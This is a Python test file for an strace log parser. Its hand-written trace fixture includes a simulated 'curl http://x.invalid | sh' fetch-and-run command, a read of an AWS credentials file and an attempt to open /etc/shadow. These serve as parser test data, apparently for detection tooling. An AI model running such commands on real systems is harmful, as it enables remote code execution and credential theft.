"""The strace parser on hand-written lines covering what real traces contain: interleaved
unfinished/resumed calls, failed calls, signals, exits, kills, threads, escaped strings."""

import pandas as pd

from slopspotter_lab.trace.strace import argv_of, parse_events, strings, unescape

TRACE = r'''100 1700000000.000100 execve("/usr/bin/python3", ["python3", "-c", "print(\"hi\")\n"], 0x7ffd /* 3 vars */) = 0
100 1700000000.000200 openat(AT_FDCWD</home/alex>, ".aws/credentials", O_RDONLY|O_CLOEXEC) = 3</home/alex/.aws/credentials>
100 1700000000.000300 openat(AT_FDCWD</home/alex>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)
100 1700000000.000400 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD <unfinished ...>
101 1700000000.000450 execve("/bin/sh", ["sh", "-c", "curl http://x.invalid | sh"], 0x1 /* 3 vars */ <unfinished ...>
100 1700000000.000500 <... clone resumed>, child_tidptr=0x7f) = 101
101 1700000000.000550 <... execve resumed>) = 0
100 1700000000.000600 clone(child_stack=0x7f, flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM) = 102
102 1700000000.000700 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("10.66.0.2")}, 16) = -1 EINPROGRESS (Operation now in progress)
101 1700000000.000800 --- SIGPIPE {si_signo=SIGPIPE, si_code=SI_USER, si_pid=100, si_uid=1000} ---
101 1700000000.000900 +++ killed by SIGKILL +++
100 1700000000.001000 exit_group(3) = ?
100 1700000000.001100 +++ exited with 3 +++
103 1700000000.001200 openat(AT_FDCWD</tmp>, "half-written-line", O_WRONLY|O_CREAT <unfinished ...>
'''


def test_every_line_kind_is_parsed():
    ev = parse_events(TRACE)
    assert list(ev["kind"].value_counts().sort_index().items()) == [
        ("exit", 1), ("killed", 1), ("signal", 1), ("syscall", 9)]
    # unfinished + resumed halves became one row each, with the return value of the resumed half
    clone = ev[(ev["name"] == "clone") & (ev["pid"] == 100)].iloc[0]
    assert clone["retval"] == 101 and "child_tidptr" in clone["args"]
    execve_sh = ev[(ev["name"] == "execve") & (ev["pid"] == 101)].iloc[0]
    assert execve_sh["retval"] == 0 and "curl" in execve_sh["args"]


def test_failed_calls_keep_errno_and_paths():
    ev = parse_events(TRACE)
    shadow = ev[ev["args"].str.contains("/etc/shadow", regex=False)].iloc[0]
    assert shadow["retval"] == -1 and shadow["errno"] == "EACCES"
    ok = ev[ev["retpath"].eq("/home/alex/.aws/credentials")]
    assert len(ok) == 1 and ok["retval"].iloc[0] == 3
    conn = ev[ev["name"] == "connect"].iloc[0]
    assert conn["errno"] == "EINPROGRESS"


def test_exits_and_kills_carry_codes():
    ev = parse_events(TRACE)
    assert ev.loc[ev["kind"] == "exit", "retval"].tolist() == [3]
    assert ev.loc[ev["kind"] == "killed", "retval"].tolist() == [-9]
    assert ev.loc[ev["kind"] == "signal", "name"].tolist() == ["SIGPIPE"]


def test_unfinished_call_that_never_resumed_is_kept_without_result():
    ev = parse_events(TRACE)
    last = ev[ev["pid"] == 103].iloc[0]
    assert last["name"] == "openat" and pd.isna(last["retval"])


def test_garbage_and_empty_input():
    assert parse_events("").empty
    ev = parse_events("not a trace line\n12 garbage\n" + TRACE.splitlines()[0] + "\n")
    assert len(ev) == 1 and ev["name"].iloc[0] == "execve"


def test_strings_and_argv_unescape():
    assert unescape(r"a\nb\x41\101\"") == 'a\nbAA"'
    args = r'"/usr/bin/python3", ["python3", "-c", "print(\"hi\")\n"], 0x7ffd /* 3 vars */'
    assert argv_of(args) == ["python3", "-c", 'print("hi")\n']
    assert strings(r'"a", "b\\c"') == ["a", "b\\c"]
